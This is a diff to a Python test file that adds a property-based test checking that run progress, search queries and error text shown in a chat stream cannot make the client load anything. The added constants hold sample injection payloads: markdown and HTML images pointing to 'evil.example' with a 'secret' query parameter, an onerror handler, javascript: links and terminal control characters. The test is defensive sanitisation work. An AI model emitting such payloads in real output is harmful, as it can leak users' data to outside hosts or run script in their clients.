@@ -3,14 +3,16 @@
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Sequence
 from typing import Any
 
 import logs
 import msgspec
 import pytest
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 from openai.types.chat import ChatCompletion, ChatCompletionChunk
 from openai.types.responses import Response, ResponseStreamEvent
 from pydantic import TypeAdapter
@@ -259,3 +261,37 @@ def test_progress_is_in_english_whatever_the_language_of_the_report() -> None:
         parts = [part for envelope in log.events for part in projection.add_event(envelope)]
         sent = msgspec.json.encode(parts).decode()
         assert "warning: a search provider was left out: brave" in sent
+
+
+LOADS = "![x](https://evil.example/p.png?d=secret)"
+PROGRESS = (
+    LOADS,
+    "<img src=https://evil.example/?d=secret>",
+    "a ` and", f"` {LOADS} `",  # code where it stands alone, and not behind the other
+    f"``` {LOADS}", f"\\{LOADS}", f"\\\\{LOADS}", "\\\\<img src=x onerror=y>", f"!{LOADS}", "[x](javascript:alert(1))",
+    "<javascript:alert(1)>", "![x][1]\n\n[1]: https://evil.example/?d=secret", "\x1b[31m\u202e",
+)  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(PROGRESS), min_size=1, max_size=6))
+@example(["a ` and", f"` {LOADS} `"])
+def test_no_progress_of_a_run_makes_a_chat_load_anything(texts: Sequence[str]) -> None:
+    log = logs.Log()
+    log.add("", e.RunCreated(brief=Brief(question="?", date="2026-01-01")))
+    log.add("", e.RunStarted())
+    for text in texts:
+        log.add("research", e.ReflectDecided(decision="complete", reasoning=text))
+    for text in texts:
+        log.add("research/agent-1/turn-1", e.SearchPerformed(query=text, provider="local", results=1))
+    log.add("", e.RunFailed(stop_reason="failed", error=texts[0]))
+    chat, response = ChatProjection(""), ResponseProjection()
+    chunks = [chunk for envelope in log.events for chunk in chat.add_event(envelope)]
+    parts = [json.loads(msgspec.json.encode(part)) for envelope in log.events for part in response.add_event(envelope)]
+    reasons = "".join(choice.delta.reasoning_content or "" for chunk in chunks for choice in chunk.choices)
+    summary = "".join(part["delta"] for part in parts if part["type"] == "response.reasoning_summary_text.delta")
+    assert "evil.example" in reasons + summary or not any("evil.example" in text for text in texts)
+    for shown in (reasons, summary, chat.failure):
+        html = MarkdownIt("commonmark").render(shown)
+        assert not re.search(r"<(?!/?(?:p|a|code|pre|strong|em|br)\b)|href=\"(?!https?:|unsafe:)|[\x1b\u202e]", html), (
+            html
+        )
